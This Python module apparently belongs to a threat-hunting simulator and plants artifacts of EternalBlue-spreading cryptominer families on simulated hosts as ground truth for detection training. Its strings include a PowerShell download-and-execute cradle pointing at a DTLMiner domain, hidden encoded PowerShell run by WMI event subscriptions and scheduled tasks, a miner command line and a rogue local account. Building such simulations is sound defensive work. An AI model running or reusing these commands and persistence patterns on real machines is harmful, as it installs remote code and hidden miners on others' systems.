"""Host artifacts of the other EternalBlue-spreading families (threat-intel.md section 2), for
`simulate(family=...)`. The spread (outbreak.py, the firewall logs) is the same for every family;
only what an infected host carries differs. WannaMine 3.0 itself stays in hostview.py, so the
default output is unchanged.

Everything here comes from threat-intel.md; where the reference leaves a detail open (an image
path, what a task runs, a portproxy target) the choice is marked [I] and kept minimal.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from wormhunt.simulate.company import Company
    from wormhunt.simulate.hostview import HostState, Proc

FAMILIES = ("wannamine3", "wannamine4", "wannamine-fileless", "dtlminer")

SYS32 = r"C:\Windows\System32"
WOW64 = r"C:\Windows\SysWOW64"
NETDIST = r"C:\Windows\NetworkDistribution"
SPEECH = r"C:\Windows\SpeechsTracing"
POWERSHELL = rf"{SYS32}\WindowsPowerShell\v1.0\powershell.exe"

# WannaMine 4.0 service names: one word from each list (threat-intel.md 2.3, Sangfor).
WM4_WORDS = (
    ("Windows", "Microsoft", "Network", "Remote", "Function", "Secure", "Application"),
    ("Update", "Time", "NetBIOS", "RPC", "Protocol", "SSDP", "UPnP"),
    ("Service", "Host", "Client", "Event", "Manager", "Helper", "System"),
)
LAST_BACKUP = (
    r"HKLM\SOFTWARE\Wow6432Node\Microsoft\Windows NT\CurrentVersion\NetworkPlatform\Location Awareness\LastBackup"
)
# The DTLMiner payload command (threat-intel.md 2.5, QiAnXin script).
DTL_PAYLOAD = "IEX (New-Object Net.WebClient).downloadstring('http://v.beahh.com/v'+$env:USERDOMAIN)"

Add = Callable[..., "Proc"]


def encoded(script: str) -> str:
    """PowerShell's `-EncodedCommand` form of a script: base64 of its UTF-16LE bytes."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def wm4_service_name(rng: random.Random) -> str:
    return "".join(rng.choice(words) for words in WM4_WORDS)


def _scan_tools(
    folder: str, st: HostState, company: Company, collect_ts: float, t: float, add: Add, ppid: int, rng: random.Random
) -> Proc:
    """The EternalBlue scanner `spoolsv.exe` and, while it exploits, `svchost.exe` from `folder`."""
    scanner = add("spoolsv.exe", rf"{folder}\spoolsv.exe", rf"{folder}\spoolsv.exe", ppid=ppid, created=t + 40)
    if rng.random() < 0.6:
        target = rng.choice([h for h in company.hosts if h.ip != st.host.ip])
        add(
            "svchost.exe",
            rf"{folder}\svchost.exe",
            rf"{folder}\svchost.exe --InConfig svchost.xml --TargetIp {target.ip} --TargetPort 445 --Target WIN72K8R2",
            ppid=scanner.pid,
            created=collect_ts - rng.uniform(5, 60),
        )
    return scanner


def infect(
    family: str,
    st: HostState,
    company: Company,
    t: float,
    collect_ts: float,
    add: Add,
    svchost: dict[str, Proc],
    wmiprvse: Proc,
    user: str,
    seed: int,
) -> Proc:
    """Put `family`'s services, tasks, files, WMI objects and processes on `st`; returns the scanner."""
    rng = random.Random(f"{seed}:{st.host.name}:{family}")
    st.families = [family]
    st.scanner_hidden = rng.random() < 0.4
    if family == "wannamine4":
        scanner = _wannamine4(st, company, t, collect_ts, add, svchost, rng)
    elif family == "wannamine-fileless":
        scanner = _fileless(st, t, add, wmiprvse, rng)
    elif family == "dtlminer":
        scanner = _dtlminer(st, t, add, user, svchost["netsvcs"].ppid, rng)
    else:
        raise ValueError(f"unknown family {family!r}; use one of {', '.join(FAMILIES)}")
    scanner.hidden = st.scanner_hidden
    return scanner


def _wannamine4(
    st: HostState, company: Company, t: float, collect_ts: float, add: Add, svchost: dict[str, Proc], rng: random.Random
) -> Proc:
    # threat-intel.md 2.3: a service named from three word lists whose same-named DLL sits in System32
    # (and SysWOW64), hosted by svchost; EternalBlue tools in C:\Windows\NetworkDistribution; the miner
    # dllhostex.exe; rdpkax.xsl. The name, DLL path and description are kept in the LastBackup value.
    name = wm4_service_name(rng)
    host_svc = svchost["netsvcs"]
    st.services[host_svc.pid].append(name)
    st.malware_services = [name]
    dll = rf"{SYS32}\{name}.dll"
    st.service_info[name] = {"dll": dll, "display": name, "description": ""}
    st.registry[LAST_BACKUP] = f"{name}|{dll}"  # [I] layout of the value; no artifact of the bundle shows it
    st.files += [
        dll,
        rf"{WOW64}\{name}.dll",
        rf"{SYS32}\dllhostex.exe",
        rf"{WOW64}\dllhostex.exe",
        rf"{SYS32}\rdpkax.xsl",
        # [I] the same toolkit as WannaMine 3.0's AppDiagnostics ("the same design as v3.0", CrowdStrike)
        rf"{NETDIST}\spoolsv.exe",
        rf"{NETDIST}\svchost.exe",
        rf"{NETDIST}\svchost.xml",
        rf"{NETDIST}\x64.dll",
        rf"{NETDIST}\x86.dll",
    ]
    st.dirs = [NETDIST]
    scanner = _scan_tools(NETDIST, st, company, collect_ts, t, add, host_svc.pid, rng)
    # XMRig options; the pool is a reserved example name: the reference has no WannaMine 4.0 pool ([U]).
    wallet = "4" + "".join(rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94))
    add(
        "dllhostex.exe",
        rf"{SYS32}\dllhostex.exe",
        rf"{SYS32}\dllhostex.exe -o stratum+tcp://pool.example.com:14444 -u {wallet} -p x -k --donate-level=1",
        ppid=host_svc.pid,
        created=t + 60,
        mem=rng.randint(200000, 600000),
    )
    return scanner


def _fileless(st: HostState, t: float, add: Add, wmiprvse: Proc, rng: random.Random) -> Proc:
    # threat-intel.md 2.2: a root\subscription filter and CommandLineEventConsumer (DSM Event Log ... or the
    # numbered SCM Event<N> Log ... names) running encoded PowerShell that loads its code from a root\default
    # class (Win32_Services or systemcore_Updater<N>), plus the miner driver service WinRing0_1_2_0.
    if rng.random() < 0.5:
        filt, cons, cls = "DSM Event Log Filter", "DSM Event Log Consumer", "Win32_Services"
    else:
        n = rng.randint(1, 9)
        filt, cons, cls = f"SCM Event{n} Log Filter", f"SCM Event{n} Log Consumer", f"systemcore_Updater{n}"
    # [I] the script: read the payload property of the class and run it.
    script = f"$c=[WmiClass]'root\\default:{cls}';iex([Text.Encoding]::Unicode.GetString("
    script += "[Convert]::FromBase64String($c.Properties['funs'].Value)))"
    command = f"powershell -NoP -NonI -W Hidden -E {encoded(script)}"
    st.wmi.append(
        {
            "filter": filt,
            "consumer": cons,
            # [I] a common persistence filter (formats.md 7.1 "malicious patterns"); WannaMine's own is [U].
            "query": "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
            "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200",
            "command": command,
            "class": cls,
        }
    )
    st.registry[rf"root\default:{cls}"] = "funs, mimi, sc"  # the WMI class listing is not part of the bundle
    driver = rf"{SYS32}\WindowsPowerShell\v1.0\WinRing0x64.sys"
    st.service_info["WinRing0_1_2_0"] = {"path": "\\??\\" + driver, "type": "1  KERNEL_DRIVER",
                                         "display": "WinRing0_1_2_0", "description": ""}  # fmt: skip
    st.drivers = ["WinRing0_1_2_0"]
    st.malware_services = ["WinRing0_1_2_0"]
    st.files = [driver]  # the driver is the family's only file; the rest lives in WMI
    scanner = add("powershell.exe", POWERSHELL, command, ppid=wmiprvse.pid, created=t + 40)
    add("powershell.exe", POWERSHELL, command, ppid=wmiprvse.pid, created=t + 70, mem=rng.randint(200000, 600000))
    return scanner


def _dtlminer(st: HostState, t: float, add: Add, user: str, services_pid: int, rng: random.Random) -> Proc:
    # threat-intel.md 2.5 (QiAnXin "DriverLife Worm killer"): services WebServers, Ddriver, DnsScan; Run values
    # WebServers and Ddriver; five tasks; processes in System32\drivers and Temp; cred.ps1; portproxy
    # listeners 65531/65532; the local user k8h3d. Which binary each service runs is [I].
    drv_svchost = rf"{SYS32}\drivers\svchost.exe"
    drv_taskmgr = rf"{SYS32}\drivers\taskmgr.exe"
    updater = r"C:\Windows\Temp\updater.exe"
    ps_cmd = f"{POWERSHELL} -ep bypass -e {encoded(DTL_PAYLOAD)}"
    profile = user.split("\\")[-1]
    st.files += [
        drv_svchost,
        drv_taskmgr,
        updater,
        r"C:\ProgramData\Microsoft\cred.ps1",
        rf"C:\Users\{profile}\AppData\Roaming\Microsoft\cred.ps1",
    ]
    own = {"ppid": services_pid}
    ddriver = add("svchost.exe", drv_svchost, drv_svchost, created=t + 40, mem=rng.randint(3000, 9000), **own)
    webservers = add("taskmgr.exe", drv_taskmgr, drv_taskmgr, created=t + 60, mem=rng.randint(200000, 600000), **own)
    dnsscan = add("powershell.exe", POWERSHELL, ps_cmd, created=t + 50, **own)
    add("updater.exe", updater, updater, ppid=dnsscan.pid, created=t + 90)
    for name, proc, path in (("Ddriver", ddriver, drv_svchost), ("WebServers", webservers, drv_taskmgr),
                             ("DnsScan", dnsscan, ps_cmd)):  # fmt: skip
        st.services[proc.pid] = [name]
        st.service_info[name] = {"path": path, "display": name, "description": ""}
    st.malware_services = ["Ddriver", "WebServers", "DnsScan"]
    st.run_values = [("WebServers", drv_taskmgr), ("Ddriver", drv_svchost)]
    cradle = f'{POWERSHELL} -nop -w hidden -ep bypass -c "{DTL_PAYLOAD}"'
    st.tasks += [
        {"name": r"\Microsoft\windows\Bluetooths", "run": cradle},
        {"name": r"\dnsscan", "run": ""},  # what it runs is not in the reference: left empty
        {"name": r"\Certificate", "run": ""},
        {"name": r"\Ddrivers", "run": drv_svchost},
        {"name": r"\WebServers", "run": drv_taskmgr},
    ]
    return ddriver


def finish(family: str, st: HostState) -> None:
    """Settings written after the host's own: DTLMiner's portproxy listeners and local user."""
    if family == "dtlminer":
        # [I] the connect side is not in the reference: a TEST-NET placeholder on the same port.
        st.portproxy = [*st.portproxy, *[("0.0.0.0", port, "192.0.2.1", port) for port in ("65531", "65532")]]
        st.accounts = [*st.accounts, "k8h3d"]


def wannamine2_leftovers(st: HostState, svchost: dict[str, Proc]) -> None:
    """WannaMine 2.0 leftovers on a WannaMine 3.0 host (threat-intel.md 1.6 step 7 and 2.1): the wmassrv
    service and its DLLs, and C:\\Windows\\SpeechsTracing\\spoolsv.exe. No 2.0 process runs: the 3.0
    updater stopped it (F-Secure, 1.4) but left the service registered."""
    st.families = ["wannamine3", "wannamine2"]
    host_svc = svchost["netsvcs"]
    st.services[host_svc.pid].append("wmassrv")
    st.malware_services = ["snmpstorsrv", "wmassrv"]
    st.service_info["wmassrv"] = {"dll": rf"{SYS32}\wmassrv.dll", "display": "wmassrv", "description": ""}
    st.files += [rf"{SYS32}\wmassrv.dll", rf"{SYS32}\HalPluginsServices.dll", rf"{SPEECH}\spoolsv.exe"]
    st.dirs = [SPEECH]


def artifacts(st: HostState) -> dict[str, Any]:
    """Extra ground-truth details of a non-default infection."""
    out: dict[str, Any] = {}
    if st.registry:
        out["registry"] = dict(st.registry)
    if st.wmi:
        out["wmi"] = [{k: w[k] for k in ("filter", "consumer", "class")} for w in st.wmi]
    if st.portproxy and "dtlminer" in st.families:
        out["portproxy"] = [f"{a}:{p}" for a, p, _, _ in st.portproxy if p in ("65531", "65532")]
    if "k8h3d" in st.accounts:
        out["users"] = ["k8h3d"]
    return out
